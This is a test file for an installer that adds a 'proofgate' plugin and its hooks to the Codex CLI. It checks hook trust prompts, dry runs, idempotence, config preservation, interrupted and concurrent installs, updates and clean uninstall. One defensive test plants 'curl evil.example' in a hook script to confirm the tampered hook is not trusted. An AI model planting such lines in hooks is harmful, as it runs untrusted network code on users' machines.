/** Installing for Codex, with the real Codex: what is shown is what happens, once, and it can be taken away again. */

import { afterAll, describe, expect, test } from "bun:test";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { spotsOf } from "../../scripts/installer/spots.ts";
import { listHooks, trustHooks } from "../../scripts/installer/trust.ts";
import { testUnless } from "../hosts/host-test.ts";
import {
  everything,
  type Home,
  installerMissing,
  makeHome,
  makePlugin,
  notTheHosts,
  removeHomes,
} from "./home.ts";

const hostTest = testUnless(await installerMissing());
afterAll(removeHomes);
const CRLF = '# my config\r\nmodel = "x" # why\r\n\r\n[tui]\r\n# notes\r\nnotifications = true\r\n';
const install = (home: Home, ...more: string[]) => home.ask("install", "codex", "--yes", ...more);
const uninstall = (home: Home, ...more: string[]) => home.ask("uninstall", "codex", "--yes", ...more);

/** Our hooks' trust, by the host's own account. */
async function trustOf(home: Home, cwd = home.base): Promise<string[]> {
  const host = { path: join(home.base, "bin", "codex"), version: "" };
  const { hooks } = await listHooks(host, spotsOf(home.env), home.env, cwd);
  return hooks.map((hook) => `${hook.event} ${hook.trust}`);
}

describe("install", () => {
  hostTest("the host lists the plugin as on, and its hooks as trusted", async () => {
    const home = await makeHome();
    expect(await install(home, "--trust-hooks")).toMatchObject({
      exit: 0,
      json: { ok: true, trusted: true },
    });
    expect((await home.codex("plugin", "list")).out).toMatch(
      /proofgate@proofgate\s+installed, enabled\s+0\.1\.0/,
    );
    expect(await trustOf(home)).toEqual(["preToolUse trusted", "stop trusted"]);
    expect(existsSync(join(home.codexHome, "agents", "codex-ultrawork-reviewer.toml"))).toBe(true);
    expect(readlinkSync(join(home.home, ".local/bin/omo"))).toStartWith(join(home.home, "data"));
    const omo = await home.run(["--version"], { env: { PATH: `${home.home}/.local/bin:${home.env.PATH}` } });
    expect(omo.exit).toBe(0);
  });

  hostTest("without --trust-hooks no hook is trusted, and the answer says what that means", async () => {
    const home = await makeHome();
    const said = await home.run(["install", "codex", "--yes"]);
    expect(said).toMatchObject({ exit: 0 });
    expect(said.out).toContain("NOT TRUSTED");
    expect(said.out).toContain("in silence");
    expect(await trustOf(home)).toEqual(["preToolUse untrusted", "stop untrusted"]);
  });

  hostTest(
    "trust that was given in Codex itself is neither asked for again nor vouched for, and goes with the rest",
    async () => {
      const home = await makeHome(CRLF);
      const before = everything(home.home, notTheHosts);
      await install(home);
      const host = { path: join(home.base, "bin", "codex"), version: "" };
      const keys = ["pre_tool_use:0:0", "stop:0:0"].map(
        (key) => `proofgate@proofgate:hooks/hooks.json:${key}`,
      );
      await trustHooks(host, spotsOf(home.env), home.env, keys);
      const again = await install(home);
      expect(again.json).toMatchObject({ actions: [], trusted: null });
      expect((await install(home, "--trust-hooks")).json).toMatchObject({ trusted: true });
      await uninstall(home);
      expect(everything(home.home, notTheHosts)).toEqual(before);
    },
  );

  hostTest("what is not the plugin is not trusted, whoever put it there", async () => {
    const home = await makeHome();
    await install(home);
    const hook = join(home.codexHome, "plugins/cache/proofgate/proofgate/0.1.0/hooks/run.sh");
    writeFileSync(hook, "curl evil.example\n");
    expect((await install(home, "--trust-hooks")).json).toMatchObject({ trusted: true });
    expect(readFileSync(hook, "utf8")).not.toContain("evil");
  });

  hostTest("the dry run changes nothing at all, and lists what then happens", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.base);
    const dry = await home.ask("install", "codex", "--dry-run", "--trust-hooks");
    expect(dry).toMatchObject({ exit: 0, json: { done: false } });
    expect(everything(home.base)).toEqual(before);
    const real = await install(home, "--trust-hooks");
    expect(real.json.actions).toEqual(dry.json.actions ?? []);
    // Every file that is new or changed lies at, or below, a place that the list names.
    const after = everything(home.home, notTheHosts);
    const was = everything(join(home.base, "home"), () => false);
    const named = (dry.json.actions ?? []).map((action) => action.where);
    const unnamed = Object.entries(after)
      .filter(
        ([path, what]) => what !== "folder" && before[join("home", path)] !== what && was[path] !== what,
      )
      .map(([path]) => join(home.home, path))
      .filter(
        (path) =>
          !named.some(
            (where) => path.startsWith(where) || path.startsWith(where.replace(/\.json$/, "-copies")),
          ),
      )
      .filter((path) => !path.includes("/.hook-trust/"));
    expect(unnamed).toEqual([]);
  });

  hostTest("twice is once", async () => {
    const home = await makeHome(CRLF);
    await install(home, "--trust-hooks");
    const once = everything(home.home, notTheHosts);
    const again = await install(home, "--trust-hooks");
    expect(again).toMatchObject({ exit: 0, json: { actions: [], trusted: true } });
    expect(everything(home.home, notTheHosts)).toEqual(once);
    expect((await install(home)).json).toMatchObject({ actions: [], trusted: true });
  });

  hostTest("comments, order, line endings and mode of the configuration stay", async () => {
    const home = await makeHome(CRLF);
    chmodSync(home.config, 0o640);
    await install(home, "--trust-hooks");
    const text = home.read("home/.codex/config.toml");
    expect(text.startsWith(CRLF)).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toContain("\n");
    expect(lstatSync(home.config).mode & 0o777).toBe(0o640);
    for (const word of ["approval", "sandbox", "network", "trust_level"]) expect(text).not.toContain(word);
  });

  hostTest("nobody to ask and no --yes: refused, nothing changed", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.base);
    expect(await home.ask("install", "codex")).toMatchObject({
      exit: 1,
      json: { error: { code: "confirmation_needed" } },
    });
    expect(everything(home.base)).toEqual(before);
  });

  hostTest("at a terminal the user is asked: first for trust, then for all of it", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.base);
    const no = await home.talk(["install", "codex"], ["y", "n"]);
    expect(no.out).toContain("in silence");
    expect(no.out).toContain("Trust them?");
    expect(no.out).toContain("Do this?");
    expect(no.exit).toBe(1);
    expect(everything(home.base)).toEqual(before);
    expect((await home.talk(["install", "codex"], ["n", "y"])).out).toContain("NOT TRUSTED");
    expect(await trustOf(home)).toEqual(["preToolUse untrusted", "stop untrusted"]);
    expect((await home.talk(["install", "codex"], ["y", "y"])).out).toContain("hooks: trusted");
    expect(await trustOf(home)).toEqual(["preToolUse trusted", "stop trusted"]);
  });

  hostTest(
    "a configuration that is a link stays one; another CODEX_HOME has a record of its own",
    async () => {
      const home = await makeHome(CRLF);
      await install(home);
      const dots = join(home.base, "dot files");
      const other = join(home.base, "other home");
      mkdirSync(dots);
      mkdirSync(other);
      writeFileSync(join(dots, "config.toml"), CRLF);
      symlinkSync(join(dots, "config.toml"), join(other, "config.toml"));
      const before = everything(home.base, notTheHosts);
      const env = { CODEX_HOME: other };
      const flags = ["codex", "--yes", "--json"];
      expect(await home.run(["install", ...flags], { env })).toMatchObject({ exit: 0 });
      expect(readlinkSync(join(other, "config.toml"))).toBe(join(dots, "config.toml"));
      expect(home.read("dot files/config.toml")).toContain("proofgate@proofgate");
      expect(await home.run(["uninstall", ...flags], { env })).toMatchObject({ exit: 0 });
      const runtime = /^other home\/(skills|\.tmp|tmp|installation_id|log)/;
      const own = ([path]: [string, string]): boolean => !runtime.test(path);
      expect(Object.entries(everything(home.base, notTheHosts)).filter(own)).toEqual(
        Object.entries(before).filter(own),
      );
      expect((await home.codex("plugin", "list")).out).toContain("proofgate@proofgate");
    },
  );

  hostTest("a name that another program has is left alone", async () => {
    const home = await makeHome();
    home.write("bin/omo", "#!/bin/sh\necho another\n");
    chmodSync(join(home.base, "bin", "omo"), 0o755);
    home.write("home/.local/bin/omx", "#!/bin/sh\necho mine\n");
    const said = await install(home);
    expect(said.json.notes?.join("\n")).toContain("omo is another program");
    expect(said.json.notes?.join("\n")).toContain("omx is another program");
    expect(existsSync(join(home.home, ".local/bin/omo"))).toBe(false);
    expect(home.read("home/.local/bin/omx")).toContain("mine");
    await uninstall(home);
    expect(home.read("home/.local/bin/omx")).toContain("mine");
  });

  hostTest("a role file of the user's is left alone", async () => {
    const home = await makeHome();
    const path = "home/.codex/agents/codex-ultrawork-reviewer.toml";
    home.write(path, 'name = "codex-ultrawork-reviewer"\n');
    expect((await install(home)).json.notes?.join("\n")).toContain("is not ours");
    await uninstall(home);
    expect(home.read(path)).toBe('name = "codex-ultrawork-reviewer"\n');
  });

  hostTest("a marketplace of that name from another place is not replaced", async () => {
    const home = await makeHome('[marketplaces.proofgate]\nsource_type = "local"\nsource = "/elsewhere"\n');
    expect(await install(home)).toMatchObject({ exit: 1, json: { error: { code: "install_conflict" } } });
  });

  hostTest("a configuration that is no TOML is refused before anything is done", async () => {
    const home = await makeHome("model = \n");
    const before = everything(home.base);
    expect(await install(home)).toMatchObject({ exit: 1, json: { error: { code: "host_config" } } });
    expect(everything(home.base)).toEqual(before);
  });
});

describe("ended in the middle", () => {
  for (const killAfterMs of [90, 150, 220, 300, 420])
    hostTest(
      `by force after ${killAfterMs} ms: installing again completes it, uninstalling leaves no trace`,
      async () => {
        const home = await makeHome(CRLF);
        const before = everything(home.home, notTheHosts);
        await home.run(["install", "codex", "--yes", "--trust-hooks"], { killAfterMs });
        expect(await install(home, "--trust-hooks")).toMatchObject({ exit: 0, json: { trusted: true } });
        expect(await trustOf(home)).toEqual(["preToolUse trusted", "stop trusted"]);
        expect(await uninstall(home)).toMatchObject({ exit: 0 });
        expect(everything(home.home, notTheHosts)).toEqual(before);
      },
    );

  for (const killAfterMs of [110, 160, 200])
    hostTest(
      `uninstalling, by force after ${killAfterMs} ms: uninstalling again leaves no trace`,
      async () => {
        const home = await makeHome(CRLF);
        const before = everything(home.home, notTheHosts);
        await install(home, "--trust-hooks");
        await home.run(["uninstall", "codex", "--yes"], { killAfterMs });
        await uninstall(home);
        expect(everything(home.home, notTheHosts)).toEqual(before);
      },
    );

  hostTest("the host's own command lives on: what it still writes is undone too", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.home, notTheHosts);
    await install(home, "--trust-hooks");
    const slow = '#!/bin/sh\nif [ "$2" = remove ]; then touch "$0.at"; sleep 1; fi\nexec "$0.real" "$@"\n';
    renameSync(join(home.base, "bin", "codex"), join(home.base, "bin", "codex.real"));
    home.write("bin/codex", slow);
    chmodSync(join(home.base, "bin", "codex"), 0o755);
    const first = Bun.spawn(["node", join(home.pack, "proofgate.js"), "uninstall", "codex", "--yes"], {
      env: home.env,
      cwd: home.base,
      stdout: "ignore",
    });
    while (!existsSync(join(home.base, "bin", "codex.at"))) await Bun.sleep(5);
    first.kill("SIGKILL");
    await first.exited;
    expect(await uninstall(home)).toMatchObject({ exit: 0 });
    expect(everything(home.home, notTheHosts)).toEqual(before);
  });

  hostTest("and then uninstalled at once: no trace either", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.home, notTheHosts);
    await home.run(["install", "codex", "--yes", "--trust-hooks"], { killAfterMs: 200 });
    await uninstall(home); // Nothing to do where it was ended before its record.
    expect(everything(home.home, notTheHosts)).toEqual(before);
  });
});

describe("several at once", () => {
  hostTest("four installers take turns: one installs, the others find it done", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.home, notTheHosts);
    const all = await Promise.all([1, 2, 3, 4].map(() => install(home, "--trust-hooks")));
    expect(all.map(({ exit }) => exit)).toEqual([0, 0, 0, 0]);
    expect(all.filter(({ json }) => (json.actions ?? []).length > 0)).toHaveLength(1);
    const gone = await Promise.all([1, 2].map(() => uninstall(home)));
    expect(gone.map(({ exit }) => exit).sort()).toEqual([0, 1]);
    expect(everything(home.home, notTheHosts)).toEqual(before);
  });

  hostTest("a turn that somebody left behind, or filled with nonsense, holds nobody up", async () => {
    const home = await makeHome();
    for (const left of ["", "{", '{"pid":4194303,"host":null}']) {
      home.write("home/state/proofgate/install/install.turn", left);
      expect(await install(home)).toMatchObject({ exit: 0 });
    }
  });
});

describe("update", () => {
  hostTest("a new version replaces the old one, and its hooks wait for trust again", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.home, notTheHosts);
    await install(home, "--trust-hooks");
    makePlugin(home.pack, "0.2.0");
    const plain = await home.ask("update", "codex", "--yes");
    expect(plain).toMatchObject({ exit: 0, json: { trusted: false } });
    expect(await trustOf(home)).toEqual(["preToolUse modified", "stop modified"]);
    expect(await home.ask("update", "codex", "--yes", "--trust-hooks")).toMatchObject({
      json: { trusted: true },
    });
    expect(await trustOf(home)).toEqual(["preToolUse trusted", "stop trusted"]);
    expect((await home.codex("plugin", "list")).out).toContain("0.2.0");
    expect(home.read("home/.codex/agents/codex-ultrawork-reviewer.toml")).toContain("Version 0.2.0");
    await uninstall(home);
    expect(everything(home.home, notTheHosts)).toEqual(before);
  });

  hostTest("works from the copy that the links lead to", async () => {
    const home = await makeHome();
    await install(home);
    const omo = join(home.home, ".local/bin/omo");
    const child = Bun.spawn([omo, "update", "codex", "--yes", "--json"], {
      env: home.env,
      cwd: home.base,
      stdout: "pipe",
    });
    expect(JSON.parse(await new Response(child.stdout).text())).toMatchObject({ ok: true, actions: [] });
  });

  hostTest("without an installation there is nothing to update", async () => {
    const home = await makeHome();
    expect(await home.ask("update", "codex", "--yes")).toMatchObject({
      exit: 1,
      json: { error: { code: "not_installed" } },
    });
  });
});

describe("uninstall", () => {
  for (const [name, config] of Object.entries({
    "a CRLF file with comments": CRLF,
    "no file": undefined,
    "a file without a last line end": '# only\nmodel = "x"',
    "hooks state of another plugin":
      '[hooks.state]\n\n[hooks.state."other@other:hooks/hooks.json:stop:0:0"] # mine\ntrusted_hash = "sha256:1"\n\n# end\n',
  }))
    hostTest(`byte for byte as before: ${name}`, async () => {
      const home = await makeHome(config);
      const before = everything(home.home, notTheHosts);
      await install(home, "--trust-hooks");
      const dry = await home.ask("uninstall", "codex", "--dry-run");
      const said = await uninstall(home);
      expect(said).toMatchObject({ exit: 0, json: { actions: dry.json.actions ?? [] } });
      expect(everything(home.home, notTheHosts)).toEqual(before);
      expect(await uninstall(home)).toMatchObject({ exit: 1, json: { error: { code: "not_installed" } } });
    });

  hostTest("what the user wrote since stays; only what is ours goes", async () => {
    const home = await makeHome(CRLF);
    await install(home, "--trust-hooks");
    const now = home.read("home/.codex/config.toml");
    const mine = "\r\n# mine, right behind theirs\r\n[other]\r\na = [ 1,\r\n 2 ] # c\r\n";
    home.write("home/.codex/config.toml", `# first\r\n${now}${mine}`);
    home.write("home/.codex/agents/codex-ultrawork-reviewer.toml", 'name = "mine now"\n');
    const said = await uninstall(home);
    expect(said.json.notes?.join("\n")).toContain("was changed since");
    expect(home.read("home/.codex/config.toml")).toBe(`# first\r\n${CRLF}${mine}`);
    expect(home.read("home/.codex/agents/codex-ultrawork-reviewer.toml")).toBe('name = "mine now"\n');
    expect((await home.codex("plugin", "list")).out).not.toContain("proofgate@proofgate");
  });

  hostTest("a change before an update counts as one: the old copy never comes back", async () => {
    const home = await makeHome(CRLF);
    await install(home, "--trust-hooks");
    home.write("home/.codex/config.toml", `# first\r\n${home.read("home/.codex/config.toml")}`);
    makePlugin(home.pack, "0.2.0");
    await home.ask("update", "codex", "--yes", "--trust-hooks");
    await uninstall(home);
    expect(home.read("home/.codex/config.toml")).toBe(`# first\r\n${CRLF}`);
  });

  hostTest("works when Codex itself is gone", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.home, notTheHosts);
    await install(home, "--trust-hooks");
    const said = await home.run(["uninstall", "codex", "--yes", "--json"], {
      env: { PATH: (home.env.PATH ?? "").replace(join(home.base, "bin"), join(home.base, "nothing")) },
    });
    expect(said.exit).toBe(0);
    expect(everything(home.home, notTheHosts)).toEqual(before);
  });
});

describe("project scope", () => {
  hostTest("the plugin is on in this project and off in others, and goes again without a trace", async () => {
    const home = await makeHome(CRLF);
    const repo = join(home.base, "my repo");
    mkdirSync(join(repo, ".git"), { recursive: true });
    const trusted = `${CRLF}\r\n[projects.${JSON.stringify(repo)}]\r\ntrust_level = "trusted"\r\n`;
    home.write("home/.codex/config.toml", trusted);
    home.write("my repo/.codex/config.toml", "# the team's\n[tui]\nnotifications = false\n");
    const before = everything(home.base, notTheHosts);
    const flags = ["codex", "--scope", "project", "--yes", "--json"];
    const said = await home.run(["install", ...flags, "--trust-hooks"], { cwd: repo });
    expect(said).toMatchObject({ exit: 0, json: { trusted: true } });
    expect(await trustOf(home, repo)).toEqual(["preToolUse trusted", "stop trusted"]);
    expect(await trustOf(home)).toEqual([]);
    expect(existsSync(join(repo, ".codex/agents/codex-ultrawork-reviewer.toml"))).toBe(true);
    const again = await home.run(["install", ...flags], { cwd: repo });
    expect(again.json).toMatchObject({ actions: [], trusted: true });
    expect(await home.run(["uninstall", ...flags], { cwd: repo })).toMatchObject({ exit: 0 });
    expect(everything(home.base, notTheHosts)).toEqual(before);
  });

  hostTest("the folder that holds Codex's own home is no project", async () => {
    const home = await makeHome();
    const flags = ["codex", "--scope", "project", "--yes", "--json"];
    expect(await home.run(["install", ...flags], { cwd: home.home })).toMatchObject({
      exit: 1,
      json: { error: { code: "install_conflict" } },
    });
  });

  hostTest("leaving one of two projects leaves the other on", async () => {
    const home = await makeHome();
    const flags = ["codex", "--scope", "project", "--yes", "--json"];
    const [one, two] = [join(home.base, "one"), join(home.base, "two")];
    for (const repo of [one, two]) {
      mkdirSync(join(repo, ".git"), { recursive: true });
      expect(await home.run(["install", ...flags], { cwd: repo })).toMatchObject({ exit: 0 });
    }
    expect(await home.run(["uninstall", ...flags], { cwd: one })).toMatchObject({ exit: 0 });
    expect(readdirSync(one)).toEqual([".git"]);
    expect(home.read("two/.codex/config.toml")).toContain("enabled = true");
    expect((await home.codex("plugin", "list")).out).toContain("proofgate@proofgate");
    expect(await home.run(["uninstall", ...flags], { cwd: two })).toMatchObject({ exit: 0 });
    expect(readdirSync(two)).toEqual([".git"]);
    expect((await home.codex("plugin", "list")).out).not.toContain("proofgate@proofgate");
  });
});

describe("without a host", () => {
  test("no codex on PATH is said, and nothing is changed", async () => {
    const home = await makeHome(CRLF);
    const before = everything(home.base);
    const PATH = (home.env.PATH ?? "").replace(join(home.base, "bin"), join(home.base, "nothing"));
    const said = await home.run(["install", "codex", "--yes", "--json"], { env: { PATH } });
    expect(said).toMatchObject({ exit: 1, json: { error: { code: "host_missing" } } });
    expect(everything(home.base)).toEqual(before);
  });

  test("a codex that does not start is said", async () => {
    const home = await makeHome();
    home.write("broken/codex", "#!/bin/sh\nexit 3\n");
    chmodSync(join(home.base, "broken/codex"), 0o755);
    const env = { PATH: `${join(home.base, "broken")}:${home.env.PATH}` };
    expect(await home.run(["install", "codex", "--yes", "--json"], { env })).toMatchObject({
      exit: 1,
      json: { error: { code: "host_missing" } },
    });
  });

  test("another host than codex, and a scope that does not exist, are wrong usage", async () => {
    const home = await makeHome();
    expect((await home.ask("install", "emacs")).exit).toBe(2);
    expect((await home.ask("install")).exit).toBe(2);
    expect((await home.ask("install", "codex", "--scope", "world", "--yes")).exit).toBe(2);
  });

  hostTest("a package without the plugin says so", async () => {
    const home = await makeHome();
    rmSync(join(home.pack, "codex"), { recursive: true });
    expect(await home.ask("install", "codex", "--yes")).toMatchObject({
      exit: 1,
      json: { error: { code: "plugin_missing" } },
    });
  });
});
